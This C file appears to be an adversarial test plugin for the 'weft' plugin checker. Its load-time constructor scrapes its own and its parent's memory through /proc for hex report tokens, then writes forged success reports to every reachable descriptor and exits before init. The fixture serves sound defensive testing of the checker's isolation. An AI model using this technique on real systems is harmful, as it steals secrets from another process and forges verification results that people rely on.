/* The isolate forger of issue 39: a library constructor that looks for the
 * per-run report token wherever it can read (its own memory, its parent's
 * memory), writes a complete, clean report with every candidate to every
 * descriptor it may reach (its own, its parent's through /proc), and ends the
 * process with status 0 before init would run. `weft plugin check --isolate`
 * must report it as failed, not as checked. */
#include <weft/plugin.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_CANDIDATES 1024
static char candidates[MAX_CANDIDATES][65];
static int count;

static int is_hex(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }

static void scan(const char *buffer, size_t n) {
    size_t run = 0;
    for (size_t i = 0; i <= n && count < MAX_CANDIDATES; ++i) {
        if (i < n && is_hex(buffer[i])) {
            ++run;
            continue;
        }
        if (run == 32 || run == 64) { /* a token is a run of lowercase hex digits */
            memcpy(candidates[count], buffer + i - run, run);
            candidates[count][run] = 0;
            int seen = 0;
            for (int k = 0; k < count; ++k) seen |= strcmp(candidates[k], candidates[count]) == 0;
            if (!seen) ++count;
        }
        run = 0;
    }
}

/* Every writable mapping (heap, stacks, data) of process `pid` ("self" or a number). */
static void scan_process(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    FILE *maps = fopen(path, "r");
    if (!maps) return;
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int mem = open(path, O_RDONLY);
    static char chunk[1 << 16];
    char line[512];
    while (mem >= 0 && fgets(line, sizeof line, maps)) {
        unsigned long start = 0, end = 0;
        char perms[8] = {0};
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
        if (strstr(line, "[vvar]") || strstr(line, "[vsyscall]")) continue;
        for (unsigned long at = start; at < end; at += sizeof chunk - 64) {
            size_t want = end - at < sizeof chunk ? end - at : sizeof chunk;
            ssize_t got = pread(mem, chunk, want, (off_t)at);
            if (got <= 0) break;
            scan(chunk, (size_t)got);
        }
    }
    if (mem >= 0) close(mem);
    fclose(maps);
}

static void forge_to(int fd) {
    for (int i = 0; i < count; ++i) {
        char report[160];
        int n = snprintf(report, sizeof report, "S\x1f%s\nE\x1f%s\n", candidates[i], candidates[i]);
        ssize_t ignored = write(fd, report, (size_t)n);
        (void)ignored;
    }
}

__attribute__((constructor)) static void forge(void) {
    char parent[32];
    snprintf(parent, sizeof parent, "%d", (int)getppid());
    scan_process("self");
    scan_process(parent);
    if (getenv("FORGES_TOKEN_DEBUG")) fprintf(stderr, "forges_token: %d candidates\n", count);
    for (int fd = 3; fd < 64; ++fd) forge_to(fd);
    for (int fd = 3; fd < 64; ++fd) { /* not the terminal: 0-2 are the user's */
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/fd/%d", parent, fd);
        int out = open(path, O_WRONLY | O_NONBLOCK);
        if (out >= 0) {
            forge_to(out);
            close(out);
        }
    }
    _exit(0);
}

WEFT_PLUGIN_EXPORT const weft_plugin_info *weft_plugin_get_info(void) {
    static const weft_plugin_info info = {sizeof(weft_plugin_info), WEFT_ABI_VERSION, "forges_token", "1.0.0",
                                          WEFT_SDK_VERSION_STRING};
    return &info;
}
WEFT_PLUGIN_EXPORT weft_status weft_plugin_init(const weft_host_api *api) {
    (void)api;
    return WEFT_OK;
}
